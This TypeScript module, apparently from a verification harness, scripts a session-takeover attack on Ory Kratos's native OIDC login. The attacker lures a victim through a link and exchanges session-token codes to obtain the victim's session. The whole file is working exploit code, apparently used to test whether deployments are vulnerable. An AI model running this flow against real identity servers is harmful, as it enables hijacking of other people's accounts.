import { parse } from "node-html-parser";
import type { Answer, Browser } from "../../cli/verify/browser";
import { people } from "../../cli/verify/signIn";
import { JSON_TYPE } from "./flows";

export interface TakeOver {
  /** Where the attacker reaches Kratos' public API. */
  readonly kratos: string;
  readonly provider: string;
  readonly attacker: Browser;
  /** The person who is to follow the attacker's link. */
  readonly victim: Browser;
}

/**
 * Tries to take a person's session by a native flow. The attacker begins it and ends it once to learn the code that comes back,
 * the victim ends it once more by the attacker's link, and the attacker exchanges the codes for a session token.
 *
 * @returns whose session the attacker has, or where it was refused
 */
export async function takeOver({ kratos, provider, attacker, victim }: TakeOver): Promise<string> {
  const begun = await attacker.ask(
    `${kratos}/self-service/login/api?return_session_token_exchange_code=true`,
    { accept: JSON_TYPE },
  );
  // Kratos v1.3 also reports a flow that a guard has refused, which is stored nowhere.
  const code = /"session_token_exchange_code":"([^"]+)"/.exec(begun.body)?.[1];
  const action = /"action":"([^"]+)"/.exec(begun.body)?.[1];
  if (code === undefined || action === undefined) return "refused at the start";
  const { pathname, search } = new URL(action);
  const sent = await attacker.ask(kratos + pathname + search, {
    accept: JSON_TYPE,
    form: new URLSearchParams({ method: "oidc", provider }),
  });
  const { redirect_browser_to: link } = JSON.parse(sent.body) as { redirect_browser_to?: string };
  if (link === undefined) return "refused at the form";
  const back = await atIssuer(attacker, link, people.alsoAdmitted);
  const returnCode = new URL(back).searchParams.get("code") ?? "";
  await atIssuer(victim, link, people.admitted);
  const codes = new URLSearchParams({
    init_code: code,
    return_to_code: returnCode,
  });
  const exchanged = await attacker.ask(`${kratos}/sessions/token-exchange?${codes.toString()}`, {
    accept: JSON_TYPE,
  });
  if (exchanged.status !== 200) return `refused at the exchange: ${exchanged.body}`;
  const { session } = JSON.parse(exchanged.body) as { session: { identity: { traits: { email: string } } } };
  return `the session of ${session.identity.traits.email}`;
}

/** Signs in at the stub issuer and follows back to Kratos, to the URL that its response leads to. */
async function atIssuer(browser: Browser, link: string, person: string): Promise<string> {
  const page = await browser.open(link);
  const action = parse(page.body).querySelector("form")?.attributes["action"] ?? "";
  const form = new URLSearchParams({ login: person });
  let answer: Answer = await browser.ask(new URL(action, page.url).href, { form });
  while (answer.location !== undefined && !answer.url.includes("/oidc/callback/"))
    answer = await browser.ask(answer.location);
  return answer.location ?? answer.url;
}
